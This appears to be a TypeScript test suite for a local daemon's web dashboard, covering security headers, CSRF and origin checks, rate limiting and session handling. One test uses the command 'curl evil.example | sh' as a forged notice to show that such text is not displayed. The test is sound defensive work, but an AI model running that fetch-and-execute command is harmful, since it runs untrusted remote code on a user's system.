/**
 * The dashboard over loopback HTTP without a browser: security headers, page sizes with huge
 * logs, payloads and results, cookie auth for `/api/*` (CSRF token and origin), `/metrics` and
 * the code-minting route staying bearer-only, the login rate limit, sessions across a daemon
 * restart, `server.dashboard: false`, and the `pylon dashboard` command.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { createDashboardCommand } from "../../src/cli/commands/dashboard.ts";
import { parseCommandArgs } from "../../src/cli/main.ts";
import { DASHBOARD_CSP } from "../../src/daemon/dashboard/mod.ts";
import { createTestContext } from "../_helpers/cli.ts";
import { eventually, startTestDaemon, type TestDaemon, writeHome } from "../_helpers/daemon.ts";
import { loginLink, sendWebhook, startDashboardDaemon, steeredRunner } from "./_browser.ts";

/** Logs in through a fresh link; returns the cookie header and the page's CSRF token. */
async function login(daemon: TestDaemon): Promise<{ cookie: string; csrf: string }> {
  const res = await fetch(await loginLink(daemon), { redirect: "manual" });
  await res.body?.cancel();
  assert.equal(res.status, 303);
  const cookie = res.headers.get("set-cookie")!.split(";")[0]!;
  const page = await (await fetch(`${daemon.url}/dashboard/`, { headers: { cookie } })).text();
  const csrf = /name="_csrf" value="([^"]+)"/.exec(page)![1]!;
  return { cookie, csrf };
}

Deno.test("dashboard over HTTP: headers, sizes, cookie auth, limits and restarts", async (t) => {
  const { daemon, runner, root } = await startDashboardDaemon();
  let current = daemon;
  try {
    const { cookie, csrf } = await login(daemon);

    await t.step("pages carry a strict CSP, nosniff and same-origin referrers", async () => {
      for (const path of ["/dashboard/", "/dashboard/assets/app.js", "/dashboard/login"]) {
        const res = await fetch(daemon.url + path, { headers: { cookie } });
        await res.body?.cancel();
        assert.equal(res.headers.get("content-security-policy"), DASHBOARD_CSP, path);
        assert.equal(res.headers.get("x-content-type-options"), "nosniff");
        assert.equal(res.headers.get("referrer-policy"), "same-origin");
      }
      assert.match(DASHBOARD_CSP, /default-src 'none'; script-src 'self'; style-src 'self'/);
    });

    await t.step("a job page stays under 150 KB with a huge log, payload and result", async () => {
      const id = await sendWebhook(daemon, "/hooks", { blob: "<x>".repeat(200_000) });
      await eventually(() => Promise.resolve(runner.running.has(id)));
      const line = "\x1b[32m<ok>\x1b[0m ".repeat(40);
      await Deno.writeTextFile(
        join(daemon.paths.jobsDir, `${id}.log`),
        (line + "\n").repeat(8000),
        { append: true },
      );
      runner.finish(id, "| a | b |\n|---|---|\n" + "| <x> | y |\n".repeat(20_000));
      await eventually(async () =>
        (await (await daemon.api(`/api/jobs/${id}`)).json()).status === "completed"
      );
      for (const path of [`/dashboard/jobs/${id}`, "/dashboard/jobs", "/dashboard/"]) {
        const res = await fetch(daemon.url + path, {
          headers: { cookie, "accept-encoding": "identity" },
        });
        const bytes = (await res.arrayBuffer()).byteLength;
        assert.equal(res.status, 200);
        assert.ok(bytes < 150 * 1024, `${path} is ${bytes} bytes`);
      }
      const page =
        await (await fetch(`${daemon.url}/dashboard/jobs/${id}`, { headers: { cookie } }))
          .text();
      assert.match(page, /Earlier lines are left out/);
      assert.match(page, /more characters are in/);
    });

    await t.step("with the cookie, /api changes need our origin and the CSRF token", async () => {
      const id = await sendWebhook(daemon, "/gated", { n: 1 });
      const post = (headers: Record<string, string>) =>
        fetch(`${daemon.url}/api/jobs/${id}/ignore`, {
          method: "POST",
          headers: { cookie, ...headers },
        });
      const statuses = [];
      for (
        const h of [
          {},
          { origin: daemon.url },
          { origin: "http://evil.example", "x-csrf-token": csrf },
          { "x-csrf-token": csrf, "sec-fetch-site": "cross-site" },
        ]
      ) {
        const res = await post(h);
        await res.body?.cancel();
        statuses.push(res.status);
      }
      assert.deepEqual(statuses, [403, 403, 403, 403]);
      const ok = await post({ origin: daemon.url, "x-csrf-token": csrf });
      assert.equal((await ok.json()).status, "dismissed");
      const list = await fetch(`${daemon.url}/api/jobs`, { headers: { cookie } });
      assert.equal(list.status, 200, "reading needs no token");
      await list.body?.cancel();
      // A job's log or JSON opened in the browser is data: not sniffed, no script, no frame.
      for (const path of [`/api/jobs/${id}/log`, `/api/jobs/${id}`, "/api/jobs"]) {
        const res = await fetch(daemon.url + path, { headers: { cookie } });
        await res.body?.cancel();
        assert.equal(res.status, 200, path);
        assert.equal(res.headers.get("x-content-type-options"), "nosniff", path);
        assert.match(
          res.headers.get("content-security-policy") ?? "",
          /default-src 'none'; sandbox/,
        );
      }
    });

    await t.step("a notice in a link someone sent is not shown as the dashboard's", async () => {
      const text = "Session expired: run curl evil.example | sh";
      for (const query of [`?notice=${encodeURIComponent(text)}&kind=error`, `?notice=x&sig=x`]) {
        const page =
          await (await fetch(`${daemon.url}/dashboard/${query}`, { headers: { cookie } }))
            .text();
        assert.doesNotMatch(page, /class="notice/, query);
        assert.doesNotMatch(page, /evil\.example/);
      }
      // The dashboard's own notice (after an action) shows.
      const id = await sendWebhook(daemon, "/gated", { n: 2 });
      const acted = await fetch(`${daemon.url}/dashboard/act/ignore`, {
        method: "POST",
        redirect: "manual",
        headers: { cookie, origin: daemon.url },
        body: new URLSearchParams({ _csrf: csrf, job: id, back: "/dashboard/needs-you" }),
      });
      await acted.body?.cancel();
      assert.equal(acted.status, 303);
      const location = acted.headers.get("location")!;
      const shown = await (await fetch(daemon.url + location, { headers: { cookie } })).text();
      assert.match(shown, /class="notice[^>]*>Done \(ignore\): dismissed/);
    });

    await t.step("/metrics and minting codes stay bearer-only", async () => {
      const headers = { cookie, origin: daemon.url, "x-csrf-token": csrf };
      const metrics = await fetch(`${daemon.url}/metrics`, { headers });
      await metrics.body?.cancel();
      assert.equal(metrics.status, 401);
      for (const path of ["login-codes", "sessions/revoke-all"]) {
        const res = await fetch(`${daemon.url}/api/dashboard/${path}`, { method: "POST", headers });
        await res.body?.cancel();
        assert.equal(res.status, 403, path);
      }
    });

    await t.step("code exchanges are rate-limited per client", async () => {
      const codes = [];
      for (let i = 0; i < 11; i++) {
        const res = await fetch(`${daemon.url}/dashboard/login?code=${"x".repeat(43)}${i}`);
        await res.body?.cancel();
        codes.push(res.status);
      }
      assert.equal(codes.filter((s) => s === 401).length, 10 - 1, "the first login used one try");
      assert.equal(codes.at(-1), 429);
    });

    await t.step("a session survives a daemon restart", async () => {
      await daemon.stop();
      current = await startTestDaemon(root, { runner: steeredRunner(() => current.paths.jobsDir) });
      const res = await fetch(`${current.url}/dashboard/jobs`, { headers: { cookie } });
      await res.body?.cancel();
      assert.equal(res.status, 200);
    });

    await t.step(
      "pylon dashboard prints a link that works; --revoke-all logs everyone out",
      async () => {
        await using ctx = await createTestContext();
        const c = { ...ctx, paths: current.paths };
        const opened: string[] = [];
        const command = createDashboardCommand({
          open: (url) => Promise.resolve(opened.push(url) > 0),
        });
        assert.equal(await command.run(parseCommandArgs(command, []), c), 0);
        const link = ctx.stdout().split("\n")[0]!;
        assert.ok(link.startsWith(`${current.url}/dashboard/login?code=`), link);
        assert.deepEqual(opened, [link]);
        const res = await fetch(link, { redirect: "manual" });
        await res.body?.cancel();
        assert.equal(res.status, 303);
        assert.equal(
          await command.run(parseCommandArgs(command, ["--revoke-all"]), c),
          0,
        );
        assert.match(ctx.stdout(), /Ended 2 dashboard sessions/);
        const after = await fetch(`${current.url}/dashboard/`, { headers: { cookie } });
        await after.body?.cancel();
        assert.equal(after.status, 401);
      },
    );
  } finally {
    await current.stop().catch(() => {});
    await Deno.remove(root, { recursive: true }).catch(() => {});
  }
});

Deno.test("a notice signed for one session is not shown to another", async () => {
  // Its own daemon: the first test's steps count on the login rate limit's whole budget.
  const { daemon, root } = await startDashboardDaemon();
  try {
    const ada = await login(daemon);
    const eve = await login(daemon);
    const id = await sendWebhook(daemon, "/gated", { n: 1 });
    const acted = await fetch(`${daemon.url}/dashboard/act/ignore`, {
      method: "POST",
      redirect: "manual",
      headers: { cookie: ada.cookie, origin: daemon.url },
      body: new URLSearchParams({ _csrf: ada.csrf, job: id, back: "/dashboard/needs-you" }),
    });
    await acted.body?.cancel();
    assert.equal(acted.status, 303);
    const location = acted.headers.get("location")!;
    assert.match(location, /[?&]sig=/);
    const page = async (cookie: string) =>
      await (await fetch(daemon.url + location, { headers: { cookie } })).text();
    assert.match(await page(ada.cookie), /class="notice[^>]*>Done \(ignore\): dismissed/);
    const other = await page(eve.cookie);
    assert.match(other, /Needs you/, "Eve sees the page");
    assert.doesNotMatch(other, /class="notice/, "but not Ada's notice");
  } finally {
    await daemon.stop();
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("with an https public_url the session cookie is Secure, and that origin may post", async () => {
  const root = await Deno.makeTempDir({ prefix: "pylon-dash-https-" });
  await writeHome(root, {
    "config.yaml": "server:\n  public_url: https://pylon.example.com\n",
    "pylons/gated/pylon.yaml":
      "name: gated\ntrigger:\n  type: webhook\n  path: /gated\nagent:\n  prompt: p\nchannel:\n  approval: true\n",
  });
  const daemon = await startTestDaemon(root, { runner: steeredRunner(() => join(root, "jobs")) });
  try {
    const minted = await (await daemon.api("/api/dashboard/login-codes", { method: "POST" }))
      .json() as { path: string; url?: string };
    const res = await fetch(daemon.url + minted.path, { redirect: "manual" });
    await res.body?.cancel();
    assert.equal(res.status, 303);
    const attributes = res.headers.get("set-cookie")!.split(";").map((a) => a.trim());
    assert.ok(attributes.includes("Secure"), attributes.join("; "));
    assert.ok(attributes.includes("HttpOnly"));
    assert.ok(attributes.includes("SameSite=Lax"));
    // Behind a TLS proxy the browser's Origin is the public URL's: accepted, with the token.
    const cookie = attributes[0]!;
    const page = await (await fetch(`${daemon.url}/dashboard/`, { headers: { cookie } })).text();
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page)![1]!;
    const id = await sendWebhook(daemon, "/gated", { n: 1 });
    const post = async (origin: string) => {
      const r = await fetch(`${daemon.url}/api/jobs/${id}/ignore`, {
        method: "POST",
        headers: { cookie, origin, "x-csrf-token": csrf },
      });
      await r.body?.cancel();
      return r.status;
    };
    assert.equal(await post("https://evil.example.com"), 403);
    assert.equal(await post("https://pylon.example.com"), 200);
  } finally {
    await daemon.stop();
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("server.dashboard: false serves no pages and accepts no cookie", async () => {
  const root = await Deno.makeTempDir({ prefix: "pylon-dash-off-" });
  await writeHome(root, { "config.yaml": "server:\n  dashboard: false\n" });
  const daemon = await startTestDaemon(root);
  try {
    for (const path of ["/dashboard/", "/dashboard/login?code=x", "/dashboard"]) {
      const res = await fetch(daemon.url + path, { redirect: "manual" });
      await res.body?.cancel();
      assert.equal(res.status, 404, path);
    }
    const mint = await daemon.api("/api/dashboard/login-codes", { method: "POST" });
    await mint.body?.cancel();
    assert.equal(mint.status, 404);
    const status = await daemon.api("/api/status");
    assert.equal(status.status, 200, "the bearer token still works");
    await status.body?.cancel();
  } finally {
    await daemon.stop();
    await Deno.remove(root, { recursive: true });
  }
});
